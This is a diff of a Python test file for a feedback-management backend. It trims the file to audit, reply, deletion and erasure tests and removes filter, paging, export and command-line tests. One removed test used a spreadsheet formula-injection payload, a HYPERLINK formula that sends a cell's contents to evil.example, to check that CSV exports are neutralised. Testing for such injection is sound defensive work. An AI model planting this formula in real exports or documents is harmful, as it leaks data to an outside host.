@@ -1,27 +1,19 @@
-"""What the data manager does with feedback: reading, filters, replies by email, done and open, deleting, export."""
+"""What the data manager does with feedback: each act is audited, and replies are sent once and erased."""
 
-import csv
-import io
-import json
 import uuid
 from collections.abc import Callable
-from datetime import date, timedelta
-from pathlib import Path
+from datetime import timedelta
 
 import pytest
 from journeys import MoveClock, account_id, at_once, close, erase_due, hold
-from support import NOBODY, Person, Service, any_database, html_of, invoke, text_of, token_of
+from support import NOBODY, Person, Service, html_of, invoke, text_of, token_of
 
 from backend import clock
 from backend.accounts import audit
-from backend.accounts.feedback import MESSAGE_LENGTH
-from backend.database.paging import Key
 from backend.desk import feedback
-from backend.desk.feedback import Filter
 from backend.errors import Impossible
 
 A_DAY = timedelta(days=1)
-FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"See")'
 NOWHERE = uuid.UUID(NOBODY)
 
 
@@ -42,45 +34,11 @@ def read(service: Service, feedback_id: uuid.UUID) -> feedback.Message:
         return feedback.read(feedback_id)
 
 
-def listed(service: Service, wanted: Filter = feedback.EVERY) -> list[str]:
-    """Return the messages of a list, read page by page; the pages have what the command prints."""
-    with service.app.app_context():
-        pages = [feedback.page(wanted)]
-        while after := pages[-1].after:
-            pages.append(feedback.page(wanted, Key.parse(str(after))))
-        rows = [row for page in pages for row in page.rows]
-        assert [len(page.rows) for page in pages[:-1]] == [50] * (len(pages) - 1)
-        assert rows == feedback.listed(wanted)
-    return [row.message for row in rows]
-
-
 def acts(service: Service) -> list[tuple[str, uuid.UUID | None, dict[str, object]]]:
     """Return what the audit says about feedback, the first act first."""
     with service.app.app_context():
         entries = reversed(audit.entries())
     return [(entry.act, entry.account_id, entry.details) for entry in entries if entry.act.startswith("feedback")]
-
-
-def test_messages_are_found_by_their_day_and_by_open_and_done(service: Service, move_clock: MoveClock) -> None:
-    days: list[date] = []
-    for message in ("First", "Second", "Third"):
-        feedback_id = send(service, message)
-        days.append(clock.now().date())
-        if message == "Second":
-            do(service, feedback.finish, feedback_id)
-        move_clock(A_DAY)
-    assert listed(service) == ["Third", "Second", "First"]
-    assert listed(service, Filter("open")) == ["Third", "First"]
-    assert listed(service, Filter("done")) == ["Second"]
-    assert listed(service, Filter(first=days[1])) == ["Third", "Second"]
-    assert listed(service, Filter(last=days[1])) == ["Second", "First"]
-    assert listed(service, Filter("open", days[1], days[2])) == ["Third"]
-
-
-def test_pages_of_50_follow_each_other_the_newest_first(service: Service) -> None:
-    for number in range(101):
-        send(service, str(number))
-    assert sorted(listed(service), key=int) == [str(number) for number in range(101)]
 
 
 def test_every_reading_and_every_act_is_in_the_audit_once(service: Service, ada: Person) -> None:
@@ -103,18 +61,6 @@ def test_every_reading_and_every_act_is_in_the_audit_once(service: Service, ada:
         ("feedback-answered", mine, {}),
         ("feedback-deleted", mine, {}),
     ]
-
-
-def test_a_message_is_done_once_and_open_again_once(service: Service) -> None:
-    feedback_id = send(service)
-    do(service, feedback.finish, feedback_id)
-    assert read(service, feedback_id).done_at
-    with pytest.raises(Impossible, match="done already"):
-        do(service, feedback.finish, feedback_id)
-    do(service, feedback.reopen, feedback_id)
-    assert read(service, feedback_id).done_at is None
-    with pytest.raises(Impossible, match="open already"):
-        do(service, feedback.reopen, feedback_id)
 
 
 def test_the_writer_gets_a_reply_by_email_that_repeats_nothing_and_unsubscribes(service: Service, ada: Person) -> None:
@@ -199,7 +145,7 @@ def test_a_deleted_message_is_gone_with_its_replies_and_nothing_else(service: Se
                 act(service, unknown)
 
 
-def test_of_two_managers_who_delete_at_the_same_moment_the_second_is_told(service: Service) -> None:
+def test_of_two_concurrent_deletions_the_second_is_refused(service: Service) -> None:
     feedback_id = send(service)
 
     def delete() -> bool:
@@ -225,63 +171,6 @@ def test_replies_are_erased_with_the_account(service: Service, ada: Person, move
     assert "replies" in service.http.post(
         "/v1/erasure-receipts/verify", json={"receipt": token_of(receipt)}
     ).text  # fmt: skip
-
-
-@any_database
-@pytest.mark.parametrize("cell", [FORMULA, "+1", "-1", "@SUM(A1)", "\N{FULLWIDTH EQUALS SIGN}1+1"])
-def test_no_message_is_a_formula_in_the_csv_export(service: Service, cell: str, tmp_path: Path) -> None:
-    feedback_id = send(service, cell)
-    send(service, 'Harmless "quotes", a comma,\nand 1=1')
-    invoke(service, "feedback", "export", "--csv", "--output", str(tmp_path / "feedback.csv"))
-    text = (tmp_path / "feedback.csv").read_bytes().decode()
-    assert text.startswith('\ufeff"id","received_at","done_at","signed_in","message"\r\n')
-    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))}
-    assert rows[str(feedback_id)]["message"] == f"'{cell}"
-    assert 'Harmless "quotes", a comma,\nand 1=1' in {row["message"] for row in rows.values()}
-
-
-@any_database
-def test_a_script_gets_what_a_filter_wants_as_json_or_csv(service: Service, tmp_path: Path) -> None:
-    old, new = send(service, "Old"), send(service, "New")
-    do(service, feedback.finish, old)
-    (only,) = json.loads(invoke(service, "feedback", "export", "--state", "open").stdout)["feedback"]
-    assert (only["id"], only["message"], only["done_at"]) == (str(new), "New", None)
-    file = tmp_path / "done.csv"
-    today = str(clock.now().date())
-    options = ("--csv", "--state", "done", "--from", today, "--to", today)
-    assert invoke(service, "feedback", "export", *options, "--output", str(file)).output == ""
-    assert str(old) in file.read_text("utf-8")
-    assert str(new) not in file.read_text("utf-8")
-    assert "no such message" in invoke(service, "feedback", "list", "--to", "2020-01-31").stderr
-    assert "write a day such as" in invoke(service, "feedback", "list", "--to", "31.1.2027", status=2).stderr
-
-
-def test_the_commands_reply_mark_and_delete(service: Service, ada: Person, tmp_path: Path) -> None:
-    feedback_id = str(send(service, person=ada))
-    file = tmp_path / "reply.txt"
-    file.write_text("\ufeffThank you.\n\nWe add more.\n", "utf-8")
-    asked = invoke(service, "feedback", "reply", feedback_id, str(file), typed="y\n")
-    assert "Email this reply to the writer (0 were sent before)? [y/N]" in asked.stderr
-    assert "\n\nThank you.\n\nWe add more.\n\n" in text_of(service.mail())
-    invoke(service, "feedback", "reply", feedback_id, str(file), typed="n\n", status=1)
-    invoke(service, "feedback", "done", feedback_id)
-    assert " done  More tiles." in invoke(service, "feedback", "list").stdout
-    assert "Thank you." in invoke(service, "feedback", "show", feedback_id).stdout
-    invoke(service, "feedback", "reopen", feedback_id)
-    assert "for good" in invoke(service, "feedback", "delete", feedback_id, status=1).stderr
-    assert len(service.rows("feedback")) == 1
-    invoke(service, "feedback", "delete", feedback_id, "--yes")
-    assert service.rows("feedback") == []
-    assert "no message with this id" in invoke(service, "feedback", "show", feedback_id, status=1).stderr
-
-
-@any_database
-@pytest.mark.parametrize("text", [b"", b"a" * (MESSAGE_LENGTH + 1), b"\xff\xfe", b"bell \x07"])
-def test_a_reply_is_plain_text_of_1_to_4000_characters(service: Service, ada: Person, text: bytes) -> None:
-    feedback_id = str(send(service, person=ada))
-    done = invoke(service, "feedback", "reply", feedback_id, "-", "--yes", typed=text, status=1)
-    assert done.stderr.startswith("Error: ")
-    assert service.rows("replies") == []
 
 
 def test_an_account_under_a_hold_can_be_replied_to(service: Service, ada: Person) -> None:
